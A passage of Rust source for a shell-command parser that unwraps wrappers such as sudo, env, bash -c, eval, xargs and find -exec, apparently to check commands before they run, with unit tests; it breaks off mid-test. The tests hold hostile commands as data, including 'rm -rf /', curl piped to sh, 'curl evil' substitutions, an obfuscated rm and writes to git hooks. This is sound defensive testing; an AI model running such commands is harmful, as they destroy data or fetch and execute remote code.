}

/// Command-line options of a wrapper (GNU getopt style).
struct Spec {
    /// Short options without an argument.
    flags: &'static str,
    /// Short options with a required argument.
    values: &'static str,
    /// Short options with an optional, attached argument.
    opt_values: &'static str,
    long_flags: &'static [&'static str],
    long_values: &'static [&'static str],
    long_opt_values: &'static [&'static str],
    /// Accepts `-N` (numbers) as an option (`nice -10`).
    numeric: bool,
}

const NO_OPTS: Spec = Spec {
    flags: "",
    values: "",
    opt_values: "",
    long_flags: &["help", "version"],
    long_values: &[],
    long_opt_values: &[],
    numeric: false,
};

struct Parsed {
    /// Index of the first operand.
    next: usize,
    shorts: Vec<char>,
    longs: Vec<String>,
}

impl Parsed {
    fn has(&self, short: char, long: &str) -> bool {
        self.shorts.contains(&short) || self.longs.iter().any(|l| l == long)
    }
}

fn parse_options(
    tool: &str,
    argv: &[String],
    dyns: &[bool],
    spec: &Spec,
    offset: usize,
) -> Res<Parsed> {
    let unknown = |opt: &str| ShellError::Syntax {
        offset,
        message: format!("unknown option '{opt}' for '{tool}': cannot tell which command it runs"),
    };
    let mut p = Parsed {
        next: 1,
        shorts: Vec::new(),
        longs: Vec::new(),
    };
    while let Some(a) = argv.get(p.next) {
        if dyns.get(p.next).copied().unwrap_or(true) {
            break;
        }
        if a == "--" {
            p.next += 1;
            break;
        }
        if let Some(long) = a.strip_prefix("--") {
            let (name, has_value) = match long.split_once('=') {
                Some((n, _)) => (n, true),
                None => (long, false),
            };
            if spec.long_values.contains(&name) {
                p.next += if has_value { 1 } else { 2 };
            } else if spec.long_flags.contains(&name)
                || spec.long_opt_values.contains(&name)
                || has_value
                || (spec.numeric && !name.is_empty() && name.bytes().all(|c| c.is_ascii_digit()))
            {
                p.next += 1;
            } else {
                return Err(unknown(a));
            }
            p.longs.push(name.to_string());
            continue;
        }
        let Some(cluster) = a.strip_prefix('-').filter(|c| !c.is_empty()) else {
            break;
        };
        if spec.numeric && cluster.bytes().all(|c| c.is_ascii_digit()) {
            p.next += 1;
            continue;
        }
        let mut step = 1;
        for (i, ch) in cluster.char_indices() {
            if spec.flags.contains(ch) {
                p.shorts.push(ch);
            } else if spec.values.contains(ch) {
                p.shorts.push(ch);
                if i + ch.len_utf8() == cluster.len() {
                    step = 2;
                }
                break;
            } else if spec.opt_values.contains(ch) {
                p.shorts.push(ch);
                break;
            } else {
                return Err(unknown(&format!("-{ch}")));
            }
        }
        p.next += step;
    }
    p.next = p.next.min(argv.len());
    Ok(p)
}

const SHELLS: [&str; 7] = ["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh"];

/// Options of a shell invocation (`bash -euxc 'cmd'`, `sh -s`, …).
struct ShellArgs {
    c_seen: bool,
    s_seen: bool,
    /// Index of the first operand (command string, script file, …).
    operand: usize,
}

fn parse_shell_args(argv: &[String], dyns: &[bool]) -> ShellArgs {
    let mut sh = ShellArgs {
        c_seen: false,
        s_seen: false,
        operand: 1,
    };
    while let Some(a) = argv.get(sh.operand) {
        if dyns.get(sh.operand).copied().unwrap_or(true) {
            break;
        }
        if a == "--" || a == "-" {
            sh.operand += 1;
            break;
        }
        if let Some(long) = a.strip_prefix("--") {
            sh.operand += if matches!(long, "rcfile" | "init-file") {
                2
            } else {
                1
            };
            continue;
        }
        if a.len() > 1 && (a.starts_with('-') || a.starts_with('+')) {
            let mut step = 1;
            for ch in a.chars().skip(1) {
                match ch {
                    'c' => sh.c_seen = true,
                    's' => sh.s_seen = true,
                    'o' | 'O' => step += 1,
                    _ => {}
                }
            }
            sh.operand += step;
            continue;
        }
        break;
    }
    sh
}

/// A shell invocation that reads its script from standard input.
fn shell_reads_stdin(argv: &[String], dyns: &[bool]) -> bool {
    let (Some(a0), Some(false)) = (argv.first(), dyns.first().copied()) else {
        return false;
    };
    if !SHELLS.contains(&basename(a0)) {
        return false;
    }
    let sh = parse_shell_args(argv, dyns);
    !sh.c_seen && (sh.s_seen || sh.operand >= argv.len())
}

fn is_assignment(s: &str) -> bool {
    match s.split_once('=') {
        Some((name, _)) => {
            let b = name.as_bytes();
            b.first().is_some_and(|&c| is_name_start(c)) && b.iter().all(|&c| is_name_char(c))
        }
        None => false,
    }
}

/// The commands run by wrapper command `argv`, if it is one.
fn unwrap_wrapper(argv: &[String], dyns: &[bool], offset: usize) -> Res<Vec<Inner>> {
    let (Some(a0), Some(false)) = (argv.first(), dyns.first().copied()) else {
        return Ok(Vec::new());
    };
    let n = argv.len();
    let static_at = |i: usize| -> Option<&str> {
        match dyns.get(i) {
            Some(false) => argv.get(i).map(String::as_str),
            _ => None,
        }
    };
    let rest = |i: usize| -> Vec<Inner> {
        if i < n {
            vec![Inner::Argv {
                range: i..n,
                force: false,
            }]
        } else {
            Vec::new()
        }
    };
    let syntax = |message: String| ShellError::Syntax { offset, message };
    let opts = |spec: &Spec| parse_options(basename(a0), argv, dyns, spec, offset);
    let name = basename(a0);
    let inners = match name {
        "env" => {
            let p = opts(&Spec {
                flags: "i0v",
                values: "uCPS",
                opt_values: "",
                long_flags: &[
                    "ignore-environment",
                    "null",
                    "debug",
                    "list-signal-handling",
                    "help",
                    "version",
                ],
                long_values: &["unset", "chdir", "split-string"],
                long_opt_values: &["block-signal", "default-signal", "ignore-signal"],
                numeric: false,
            })?;
            if p.has('S', "split-string") {
                return Err(syntax(
                    "'env -S' is not supported: cannot tell which command it runs".into(),
                ));
            }
            let mut i = p.next;
            if static_at(i) == Some("-") {
                i += 1;
            }
            while static_at(i).is_some_and(|a| a.contains('=')) {
                i += 1;
            }
            rest(i)
        }
        "timeout" => {
            let p = opts(&Spec {
                flags: "vfp",
                values: "sk",
                opt_values: "",
                long_flags: &[
                    "foreground",
                    "preserve-status",
                    "verbose",
                    "help",
                    "version",
                ],
                long_values: &["signal", "kill-after"],
                long_opt_values: &[],
                numeric: false,
            })?;
            rest(p.next + 1)
        }
        "nice" => {
            let p = opts(&Spec {
                flags: "",
                values: "n",
                opt_values: "",
                long_flags: &["help", "version"],
                long_values: &["adjustment"],
                long_opt_values: &[],
                numeric: true,
            })?;
            rest(p.next)
        }
        "nohup" | "builtin" => rest(opts(&NO_OPTS)?.next),
        "setsid" => rest(
            opts(&Spec {
                flags: "cfw",
                long_flags: &["ctty", "fork", "wait", "help", "version"],
                ..NO_OPTS
            })?
            .next,
        ),
        "sudo" => {
            let p = opts(&Spec {
                flags: "AbBEeHiKklnNPSsVv",
                values: "ugCDhprtUTR",
                opt_values: "",
                long_flags: &[
                    "askpass",
                    "background",
                    "bell",
                    "edit",
                    "help",
                    "set-home",
                    "login",
                    "remove-timestamp",
                    "reset-timestamp",
                    "list",
                    "non-interactive",
                    "preserve-groups",
                    "shell",
                    "stdin",
                    "version",
                    "validate",
                    "no-update",
                ],
                long_values: &[
                    "user",
                    "group",
                    "close-from",
                    "chdir",
                    "host",
                    "prompt",
                    "role",
                    "type",
                    "other-user",
                    "command-timeout",
                    "chroot",
                ],
                long_opt_values: &["preserve-env"],
                numeric: false,
            })?;
            if p.has('e', "edit") {
                Vec::new()
            } else {
                let mut i = p.next;
                while static_at(i).is_some_and(is_assignment) {
                    i += 1;
                }
                rest(i)
            }
        }
        "doas" => rest(
            opts(&Spec {
                flags: "Lns",
                values: "uC",
                ..NO_OPTS
            })?
            .next,
        ),
        "command" => {
            let p = opts(&Spec {
                flags: "pvV",
                ..NO_OPTS
            })?;
            if p.has('v', "") || p.has('V', "") {
                Vec::new()
            } else {
                rest(p.next)
            }
        }
        "exec" => rest(
            opts(&Spec {
                flags: "cl",
                values: "a",
                ..NO_OPTS
            })?
            .next,
        ),
        "time" => rest(
            opts(&Spec {
                flags: "pavq",
                values: "fo",
                opt_values: "",
                long_flags: &[
                    "append",
                    "verbose",
                    "quiet",
                    "portability",
                    "help",
                    "version",
                ],
                long_values: &["format", "output"],
                long_opt_values: &[],
                numeric: false,
            })?
            .next,
        ),
        "stdbuf" => rest(
            opts(&Spec {
                values: "ioe",
                long_values: &["input", "output", "error"],
                ..NO_OPTS
            })?
            .next,
        ),
        "ionice" => {
            let p = opts(&Spec {
                flags: "t",
                values: "cnpPu",
                opt_values: "",
                long_flags: &["ignore", "help", "version"],
                long_values: &["class", "classdata", "pid", "pgid", "uid"],
                long_opt_values: &[],
                numeric: false,
            })?;
            if p.has('p', "pid") || p.has('P', "pgid") || p.has('u', "uid") {
                Vec::new()
            } else {
                rest(p.next)
            }
        }
        "chrt" => {
            let p = opts(&Spec {
                flags: "abdefimoprRv",
                values: "TPD",
                opt_values: "",
                long_flags: &[
                    "all-tasks",
                    "batch",
                    "deadline",
                    "ext",
                    "fifo",
                    "idle",
                    "max",
                    "other",
                    "pid",
                    "rr",
                    "reset-on-fork",
                    "verbose",
                    "help",
                    "version",
                ],
                long_values: &["sched-runtime", "sched-period", "sched-deadline"],
                long_opt_values: &[],
                numeric: false,
            })?;
            if p.has('p', "pid") || p.has('m', "max") {
                Vec::new()
            } else {
                let mut i = p.next;
                if static_at(i)
                    .is_some_and(|a| !a.is_empty() && a.bytes().all(|c| c.is_ascii_digit()))
                {
                    i += 1;
                }
                rest(i)
            }
        }
        "xargs" => {
            let p = opts(&Spec {
                flags: "0oprtx",
                values: "adEILnPs",
                opt_values: "iel",
                long_flags: &[
                    "null",
                    "interactive",
                    "no-run-if-empty",
                    "verbose",
                    "exit",
                    "show-limits",
                    "open-tty",
                    "help",
                    "version",
                ],
                long_values: &[
                    "arg-file",
                    "delimiter",
                    "max-args",
                    "max-procs",
                    "max-chars",
                    "process-slot-var",
                ],
                long_opt_values: &["eof", "replace", "max-lines"],
                numeric: false,
            })?;
            if p.next < n {
                vec![Inner::Argv {
                    range: p.next..n,
                    force: true,
                }]
            } else {
                vec![Inner::Literal {
                    argv: vec!["echo".to_string()],
                    force: true,
                }]
            }
        }
        "find" => {
            let mut found = Vec::new();
            let mut i = 1;
            while i < n {
                if matches!(static_at(i), Some("-exec" | "-execdir" | "-ok" | "-okdir")) {
                    let s = i + 1;
                    let mut k = s;
                    let end = loop {
                        match static_at(k) {
                            Some(";") => break Some(k),
                            Some("+") if k > s && static_at(k - 1) == Some("{}") => break Some(k),
                            _ if k >= n => break None,
                            _ => k += 1,
                        }
                    };
                    let Some(end) = end else {
                        return Err(syntax(format!(
                            "'find {}' without a terminating ';' or '+'",
                            argv.get(i).map_or("", String::as_str)
                        )));
                    };
                    if end == s {
                        return Err(syntax("'find -exec' without a command".into()));
                    }
                    found.push(Inner::Argv {
                        range: s..end,
                        force: true,
                    });
                    i = end + 1;
                } else {
                    i += 1;
                }
            }
            found
        }
        "trap" => {
            // trap [-lpP] [[ACTION] SIGNAL…]: ACTION runs later.
            let mut i = 1;
            match static_at(1) {
                Some("--") => i = 2,
                Some(a) if a.len() > 1 && a.starts_with('-') => return Ok(Vec::new()),
                _ => {}
            }
            if n >= i + 2 {
                match static_at(i) {
                    Some("-" | "") => Vec::new(),
                    Some(action) => vec![Inner::Script(action.to_string())],
                    None => {
                        return Err(syntax(
                            "'trap' with a dynamic action cannot be analysed".into(),
                        ))
                    }
                }
            } else {
                Vec::new()
            }
        }
        "eval" => {
            if n <= 1 {
                Vec::new()
            } else if dyns.iter().skip(1).any(|d| *d) {
                return Err(syntax(
                    "'eval' of a dynamic string cannot be analysed".into(),
                ));
            } else {
                vec![Inner::Script(argv.get(1..).unwrap_or_default().join(" "))]
            }
        }
        _ if SHELLS.contains(&name) => {
            let sh = parse_shell_args(argv, dyns);
            let i = sh.operand;
            if !sh.c_seen {
                Vec::new()
            } else {
                match (argv.get(i), dyns.get(i)) {
                    (Some(s), Some(false)) => vec![Inner::Script(s.clone())],
                    (Some(_), _) => {
                        return Err(syntax(format!(
                            "'{name} -c' with a dynamic command string cannot be analysed"
                        )))
                    }
                    (None, _) => Vec::new(),
                }
            }
        }
        _ => Vec::new(),
    };
    Ok(inners)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

    use super::*;
    use proptest::prelude::*;

    fn c(argv: &[&str]) -> SimpleCommand {
        SimpleCommand {
            argv: argv.iter().map(|s| (*s).to_string()).collect(),
            piped_from: Vec::new(),
            writes: Vec::new(),
            dynamic: false,
        }
    }

    trait Build {
        fn piped(self, p: &[&str]) -> Self;
        fn writes(self, w: &[&str]) -> Self;
        fn dynamic(self) -> Self;
    }

    impl Build for SimpleCommand {
        fn piped(mut self, p: &[&str]) -> Self {
            self.piped_from = p.iter().map(|s| (*s).to_string()).collect();
            self
        }
        fn writes(mut self, w: &[&str]) -> Self {
            self.writes = w.iter().map(|s| (*s).to_string()).collect();
            self
        }
        fn dynamic(mut self) -> Self {
            self.dynamic = true;
            self
        }
    }

    fn ok(line: &str) -> Vec<SimpleCommand> {
        match split(line) {
            Ok(v) => v,
            Err(e) => panic!("split({line:?}) failed: {e}"),
        }
    }

    fn argvs(line: &str) -> Vec<Vec<String>> {
        ok(line).into_iter().map(|c| c.argv).collect()
    }

    fn is_syntax(line: &str) -> bool {
        matches!(split(line), Err(ShellError::Syntax { .. }))
    }

    // ----- basics ----------------------------------------------------------

    #[test]
    fn empty_blank_and_comments() {
        assert_eq!(ok(""), vec![]);
        assert_eq!(ok("   \n\t \n"), vec![]);
        assert_eq!(ok("# just a comment"), vec![]);
        assert_eq!(ok("  # comment\n# another\n"), vec![]);
    }

    #[test]
    fn comment_after_command() {
        assert_eq!(ok("echo hi # rm -rf /"), vec![c(&["echo", "hi"])]);
        assert_eq!(ok("echo a#b"), vec![c(&["echo", "a#b"])]);
        assert_eq!(ok("# c\nls -la # c2\n"), vec![c(&["ls", "-la"])]);
    }

    #[test]
    fn quoting_and_escapes() {
        assert_eq!(
            ok(r#"echo "a b" 'c' d\ e"#),
            vec![c(&["echo", "a b", "c", "d e"])]
        );
        assert_eq!(
            ok(r#"echo "a\"b\\c\$d\e""#),
            vec![c(&["echo", r#"a"b\c$d\e"#])]
        );
        assert_eq!(ok(r"echo 'it''s' x\\y"), vec![c(&["echo", "its", r"x\y"])]);
        assert_eq!(ok("ec\\\nho hi"), vec![c(&["echo", "hi"])]);
        assert_eq!(ok(r#"echo "" ''"#), vec![c(&["echo", "", ""])]);
    }

    #[test]
    fn ansi_c_quotes_are_decoded() {
        assert_eq!(ok(r"$'\x72\x6d' -rf /"), vec![c(&["rm", "-rf", "/"])]);
        assert_eq!(
            ok(r"echo $'a\tb\'c\n' $'\101\u00e9'"),
            vec![c(&["echo", "a\tb'c\n", "Aé"])]
        );
    }

    #[test]
    fn lists_and_operators() {
        assert_eq!(
            argvs("a 1 && b 2 || c 3; d & e\nf"),
            vec![
                vec!["a", "1"],
                vec!["b", "2"],
                vec!["c", "3"],
                vec!["d"],
                vec!["e"],
                vec!["f"]
            ]
        );
        assert_eq!(
            argvs("a&&b||c;d"),
            vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"]]
        );
        assert_eq!(argvs("a &&\n b"), vec![vec!["a"], vec!["b"]]);
    }

    #[test]
    fn pipelines_record_upstream() {
        assert_eq!(
            ok("a | b |& c"),
            vec![
                c(&["a"]),
                c(&["b"]).piped(&["a"]),
                c(&["c"]).piped(&["a", "b"])
            ]
        );
        assert_eq!(
            ok("curl -fsSL https://x | sh"),
            vec![
                c(&["curl", "-fsSL", "https://x"]),
                c(&["sh"]).piped(&["curl"])
            ]
        );
        assert_eq!(
            ok("/usr/bin/curl x | /bin/bash"),
            vec![
                c(&["/usr/bin/curl", "x"]),
                c(&["/bin/bash"]).piped(&["curl"])
            ]
        );
    }

    #[test]
    fn path_of_argv0_is_kept() {
        assert_eq!(
            ok("/usr/bin/rm -rf /"),
            vec![c(&["/usr/bin/rm", "-rf", "/"])]
        );
    }

    // ----- wrappers --------------------------------------------------------

    #[test]
    fn bash_c_is_parsed() {
        assert_eq!(
            ok(r#"bash -c "rm -rf /""#),
            vec![c(&["bash", "-c", "rm -rf /"]), c(&["rm", "-rf", "/"])]
        );
        assert_eq!(
            ok("sh -lc 'a; b | c'"),
            vec![
                c(&["sh", "-lc", "a; b | c"]),
                c(&["a"]),
                c(&["b"]),
                c(&["c"]).piped(&["b"])
            ]
        );
        assert_eq!(
            argvs("bash -e -o pipefail -c 'x' arg0"),
            vec![
                vec!["bash", "-e", "-o", "pipefail", "-c", "x", "arg0"],
                vec!["x"]
            ]
        );
        assert_eq!(
            argvs("zsh -xc 'y'"),
            vec![vec!["zsh", "-xc", "y"], vec!["y"]]
        );
        // Not -c: a script file, nothing to unwrap.
        assert_eq!(argvs("bash script.sh"), vec![vec!["bash", "script.sh"]]);
    }

    #[test]
    fn bash_c_dynamic_is_error() {
        assert!(is_syntax(r#"bash -c "$X""#));
        assert!(is_syntax("sh -c \"$(curl evil)\""));
        assert!(is_syntax("eval \"$CMD\""));
    }

    #[test]
    fn eval_is_parsed() {
        assert_eq!(
            ok("eval 'rm -rf' /tmp"),
            vec![c(&["eval", "rm -rf", "/tmp"]), c(&["rm", "-rf", "/tmp"])]
        );
    }

    #[test]
    fn env_timeout_chain() {
        assert_eq!(
            ok("env FOO=1 timeout 5 rm -rf ~"),
            vec![
                c(&["env", "FOO=1", "timeout", "5", "rm", "-rf", "~"]),
                c(&["timeout", "5", "rm", "-rf", "~"]),
                c(&["rm", "-rf", "~"]),
            ]
        );
        assert_eq!(
            argvs("env -i -u HOME - A=b cmd x"),
            vec![
                vec!["env", "-i", "-u", "HOME", "-", "A=b", "cmd", "x"],
                vec!["cmd", "x"]
            ]
        );
        assert_eq!(argvs("env"), vec![vec!["env"]]);
        assert!(is_syntax("env -S 'rm -rf /'"));
    }

    #[test]
    fn sudo_and_friends() {
        assert_eq!(
            ok("sudo -u root rm -rf /"),
            vec![
                c(&["sudo", "-u", "root", "rm", "-rf", "/"]),
                c(&["rm", "-rf", "/"])
            ]
        );
        assert_eq!(
            argvs("sudo -E -uroot -- VAR=1 rm x"),
            vec![
                vec!["sudo", "-E", "-uroot", "--", "VAR=1", "rm", "x"],
                vec!["rm", "x"]
            ]
        );
        assert_eq!(
            argvs("sudo --user=root nice -n 5 ionice -c3 nohup stdbuf -oL setsid doas -u x rm y"),
            vec![
                vec![
                    "sudo",
                    "--user=root",
                    "nice",
                    "-n",
                    "5",
                    "ionice",
                    "-c3",
                    "nohup",
                    "stdbuf",
                    "-oL",
                    "setsid",
                    "doas",
                    "-u",
                    "x",
                    "rm",
                    "y"
                ],
                vec![
                    "nice", "-n", "5", "ionice", "-c3", "nohup", "stdbuf", "-oL", "setsid", "doas",
                    "-u", "x", "rm", "y"
                ],
                vec![
                    "ionice", "-c3", "nohup", "stdbuf", "-oL", "setsid", "doas", "-u", "x", "rm",
                    "y"
                ],
                vec!["nohup", "stdbuf", "-oL", "setsid", "doas", "-u", "x", "rm", "y"],
                vec!["stdbuf", "-oL", "setsid", "doas", "-u", "x", "rm", "y"],
                vec!["setsid", "doas", "-u", "x", "rm", "y"],
                vec!["doas", "-u", "x", "rm", "y"],
                vec!["rm", "y"],
            ]
        );
        assert_eq!(
            argvs("nice -10 rm a"),
            vec![vec!["nice", "-10", "rm", "a"], vec!["rm", "a"]]
        );
        assert_eq!(
            argvs("sudo -e /etc/hosts"),
            vec![vec!["sudo", "-e", "/etc/hosts"]]
        );
        assert!(is_syntax("sudo --frobnicate rm x"));
    }

    #[test]
    fn command_exec_builtin_time() {
        assert_eq!(
            argvs("command -p rm x"),
            vec![vec!["command", "-p", "rm", "x"], vec!["rm", "x"]]
        );
        assert_eq!(argvs("command -v rm"), vec![vec!["command", "-v", "rm"]]);
        assert_eq!(
            argvs("exec -a name rm x"),
            vec![vec!["exec", "-a", "name", "rm", "x"], vec!["rm", "x"]]
        );
        assert_eq!(
            argvs("builtin cd /"),
            vec![vec!["builtin", "cd", "/"], vec!["cd", "/"]]
        );
        assert_eq!(
            argvs("time -p rm x"),
            vec![vec!["time", "-p", "rm", "x"], vec!["rm", "x"]]
        );
        assert_eq!(
            argvs("chrt -f 10 rm x; chrt -p 5 123"),
            vec![
                vec!["chrt", "-f", "10", "rm", "x"],
                vec!["rm", "x"],
                vec!["chrt", "-p", "5", "123"]
            ]
        );
        assert_eq!(
            argvs("timeout -s KILL --kill-after=3 10 rm x"),
            vec![
                vec!["timeout", "-s", "KILL", "--kill-after=3", "10", "rm", "x"],
                vec!["rm", "x"]
            ]
        );
    }

    #[test]
    fn inner_command_inherits_pipe_and_writes() {
        assert_eq!(
            ok("curl x | sudo sh > log"),
            vec![
                c(&["curl", "x"]),
                c(&["sudo", "sh"]).piped(&["curl"]).writes(&["log"]),
                c(&["sh"]).piped(&["curl"]).writes(&["log"]),
            ]
        );
        assert_eq!(
            ok("curl x | bash -c 'cat > f'"),
            vec![
                c(&["curl", "x"]),
                c(&["bash", "-c", "cat > f"]).piped(&["curl"]),
                c(&["cat"]).piped(&["curl"]).writes(&["f"]),
            ]
        );
    }

    #[test]
    fn xargs_inner_is_dynamic() {
        assert_eq!(
            ok("xargs rm"),
            vec![c(&["xargs", "rm"]), c(&["rm"]).dynamic()]
        );
        assert_eq!(
            ok("ls | xargs -0 -n1 -I{} rm -f {}"),
            vec![
                c(&["ls"]),
                c(&["xargs", "-0", "-n1", "-I{}", "rm", "-f", "{}"]).piped(&["ls"]),
                c(&["rm", "-f", "{}"]).piped(&["ls"]).dynamic(),
            ]
        );
        assert_eq!(ok("xargs"), vec![c(&["xargs"]), c(&["echo"]).dynamic()]);
        // Wrappers below xargs stay dynamic.
        assert_eq!(
            ok("xargs sudo rm"),
            vec![
                c(&["xargs", "sudo", "rm"]),
                c(&["sudo", "rm"]).dynamic(),
                c(&["rm"]).dynamic()
            ]
        );
    }

    #[test]
    fn find_exec() {
        assert_eq!(
            ok(r"find . -name x -exec rm {} \;"),
            vec![
                c(&["find", ".", "-name", "x", "-exec", "rm", "{}", ";"]),
                c(&["rm", "{}"]).dynamic()
            ]
        );
        assert_eq!(
            argvs("find . -execdir chmod 777 {} + -ok rm {} ';'"),
            vec![
                vec!["find", ".", "-execdir", "chmod", "777", "{}", "+", "-ok", "rm", "{}", ";"],
                vec!["chmod", "777", "{}"],
                vec!["rm", "{}"],
            ]
        );
        assert!(is_syntax("find . -exec rm {}"));
    }

    // ----- substitutions ---------------------------------------------------

    #[test]
    fn command_substitution() {
        assert_eq!(
            ok("echo $(curl evil | sh)"),
            vec![
                c(&["echo", "$(curl evil | sh)"]).dynamic(),
                c(&["curl", "evil"]),
                c(&["sh"]).piped(&["curl"]),
            ]
        );
        assert_eq!(
            ok(r#"echo "x $(id) y" "${HOME}/$(whoami)""#),
            vec![
                c(&["echo", "x $(id) y", "${HOME}/$(whoami)"]).dynamic(),
                c(&["id"]),
                c(&["whoami"]),
            ]
        );
        assert_eq!(
            argvs("echo $( (a) ; b )"),
            vec![vec!["echo", "$( (a) ; b )"], vec!["a"], vec!["b"]]
        );
    }

    #[test]
    fn backticks() {
        assert_eq!(
            ok("echo `curl x | sh`"),
            vec![
                c(&["echo", "`curl x | sh`"]).dynamic(),
                c(&["curl", "x"]),
                c(&["sh"]).piped(&["curl"])
            ]
        );
        // `\$` inside backticks is unescaped by the shell: the inner $(id) runs.
        assert_eq!(
            argvs(r"echo `echo \$(id)`"),
            vec![
                vec!["echo", r"`echo \$(id)`"],
                vec!["echo", "$(id)"],
                vec!["id"]
            ]
        );
        assert_eq!(
            argvs(r#"echo "`echo \"hi\"`""#),
            vec![vec!["echo", r#"`echo \"hi\"`"#], vec!["echo", "hi"]]
        );
    }

    #[test]
    fn nested_substitutions_everywhere() {
        assert_eq!(
            argvs("FOO=$(a) cmd ${X:-$(b)} $((1 + $(c))) > $(d) < <(e) <<< \"$(f)\""),
            vec![
                vec!["cmd", "${X:-$(b)}", "$((1 + $(c)))"],
                vec!["a"],
                vec!["b"],
                vec!["c"],
                vec!["d"],
                vec!["e"],
                vec!["f"],
            ]
        );
        assert_eq!(argvs(r#"echo "${x:-'$(a)'}" ${y:-"$(b)"}"#).len(), 3);
        assert_eq!(
            argvs("[[ -f $(a) && $(b) =~ ^(x|y)$ ]]"),
            vec![vec!["a"], vec!["b"]]
        );
        assert_eq!(argvs("(( x = $(a) ))"), vec![vec!["a"]]);
        assert_eq!(
            argvs("for ((i=$(a); i<3; i++)); do b; done"),
            vec![vec!["a"], vec!["b"]]
        );
        assert_eq!(argvs("arr=(1 $(a) [k]=$(b))"), vec![vec!["a"], vec!["b"]]);
        assert_eq!(
            argvs("declare -a arr=(x $(a))"),
            vec![vec!["declare", "-a", "arr=(x $(a))"], vec!["a"]]
        );
    }

    #[test]
    fn bare_assignment_only_reports_substitutions() {
        assert_eq!(ok("FOO=bar"), vec![]);
        assert_eq!(ok("FOO=bar BAZ=qux"), vec![]);
        assert_eq!(ok("FOO=$(curl x)"), vec![c(&["curl", "x"])]);
        assert_eq!(ok("FOO=1 cmd x"), vec![c(&["cmd", "x"])]);
        assert_eq!(ok("a=1 b+=2 c[3]=4 cmd"), vec![c(&["cmd"])]);
        assert_eq!(ok("echo FOO=bar"), vec![c(&["echo", "FOO=bar"])]);
    }

    #[test]
    fn process_substitution() {
        assert_eq!(
            ok("bash <(curl -s x)"),
            vec![
                c(&["bash", "<(curl -s x)"]).piped(&["curl"]).dynamic(),
                c(&["curl", "-s", "x"])
            ]
        );
        assert_eq!(
            ok("make 2>&1 > >(tee log)"),
            vec![c(&["make"]), c(&["tee", "log"]).piped(&["make"])]
        );
        assert_eq!(
            ok("diff <(a) <(b)"),
            vec![
                c(&["diff", "<(a)", "<(b)"]).piped(&["a", "b"]).dynamic(),
                c(&["a"]),
                c(&["b"])
            ]
        );
    }

    // ----- compound commands -----------------------------------------------

    #[test]
    fn subshell_and_groups() {
        assert_eq!(
            argvs("(cd x && rm -rf .)"),
            vec![vec!["cd", "x"], vec!["rm", "-rf", "."]]
        );
        assert_eq!(
            ok("{ a; b; } > out"),
            vec![c(&["a"]).writes(&["out"]), c(&["b"]).writes(&["out"])]
        );
        assert_eq!(
            ok("( a | b ) 2>err | c"),
            vec![
                c(&["a"]).writes(&["err"]),
                c(&["b"]).piped(&["a"]).writes(&["err"]),
                c(&["c"]).piped(&["a", "b"]),
            ]
        );
        assert_eq!(
            ok("curl x | { read a; sh; }"),
            vec![
                c(&["curl", "x"]),
                c(&["read", "a"]).piped(&["curl"]),
                c(&["sh"]).piped(&["curl"])
            ]
        );
    }

    #[test]
    fn if_while_for_case() {
        assert_eq!(
            ok("if true; then rm -rf /; fi"),
            vec![c(&["true"]), c(&["rm", "-rf", "/"])]
        );
        assert_eq!(
            argvs("if a; then b; elif c; then d; else e; fi"),
            vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"], vec!["e"]]
        );
        assert_eq!(
            argvs("while a; do b; done; until c\ndo d\ndone"),
            vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"]]
        );
        assert_eq!(
            ok(r#"for f in *; do rm "$f"; done"#),
            vec![c(&["rm", "$f"]).dynamic()]
        );
        assert_eq!(
            argvs("for x in a b\ndo echo $x; done > o"),
            vec![vec!["echo", "$x"]]
        );
        assert_eq!(
            argvs("case $x in a|b) one;; (c) two ;& *) three;; esac"),
            vec![vec!["one"], vec!["two"], vec!["three"]]
        );
        assert_eq!(argvs("case x in esac"), Vec::<Vec<String>>::new());
        assert_eq!(
            argvs("x=$(case a in a) echo hi;; esac)"),
            vec![vec!["echo", "hi"]]
        );
        assert_eq!(argvs("select x in a b; do c; done"), vec![vec!["c"]]);
        assert_eq!(
            argvs("for i in <(a) $(b); do c; done"),
            vec![vec!["a"], vec!["b"], vec!["c"]]
        );
    }

    #[test]
    fn functions() {
        assert_eq!(
            argvs("f() { rm -rf /; }; f"),
            vec![vec!["rm", "-rf", "/"], vec!["f"]]
        );
        assert_eq!(argvs("function g { a; }"), vec![vec!["a"]]);
        assert_eq!(argvs("function h() ( b )"), vec![vec!["b"]]);
        assert_eq!(ok("f() { a; } > out"), vec![c(&["a"]).writes(&["out"])]);
        assert!(is_syntax("f() echo hi"));
    }

    #[test]
    fn time_and_bang() {
        assert_eq!(
            ok("time rm x | cat"),
            vec![
                c(&["time", "rm", "x"]),
                c(&["rm", "x"]),
                c(&["cat"]).piped(&["time", "rm"])
            ]
        );
        assert_eq!(argvs("! grep -q x f"), vec![vec!["grep", "-q", "x", "f"]]);
        assert_eq!(argvs("!; time; a"), vec![vec!["a"]]);
    }

    // ----- redirections ----------------------------------------------------

    #[test]
    fn write_redirections() {
        assert_eq!(
            ok("echo hi > .git/hooks/pre-commit"),
            vec![c(&["echo", "hi"]).writes(&[".git/hooks/pre-commit"])]
        );
        assert_eq!(
            ok("a >> x 2> y &> z &>> w >| v 3<> u {fd}> t >& s"),
            vec![c(&["a"]).writes(&["x", "y", "z", "w", "v", "u", "t", "s"])]
        );
        assert_eq!(ok("echo hi 2>&1 >/dev/null"), vec![c(&["echo", "hi"])]);
        assert_eq!(
            ok("a 2>/dev/stderr >&2 1>&- 3>&1- </dev/null >/dev/tty"),
            vec![c(&["a"])]
        );
        assert_eq!(ok("cat < in"), vec![c(&["cat"])]);
        assert_eq!(
            ok(r#"echo x > "$F""#),
            vec![c(&["echo", "x"]).writes(&["$F"]).dynamic()]
        );
        assert_eq!(
            ok("echo x > 'a b'"),
            vec![c(&["echo", "x"]).writes(&["a b"])]
        );
        // Redirection without a command still truncates the file.
        assert_eq!(ok("> victim"), vec![c(&[]).writes(&["victim"])]);
        assert_eq!(ok("echo 99999999999>f"), vec![c(&["echo"]).writes(&["f"])]);
    }

    #[test]
    fn heredocs() {
        assert_eq!(
            ok("cat <<EOF > f\nhello\nEOF"),
            vec![c(&["cat"]).writes(&["f"])]
        );
        assert_eq!(
            ok("cat <<EOF | sh\nrm -rf /\nEOF\necho after"),
            vec![
                c(&["cat"]),
                c(&["sh"]).piped(&["cat"]),
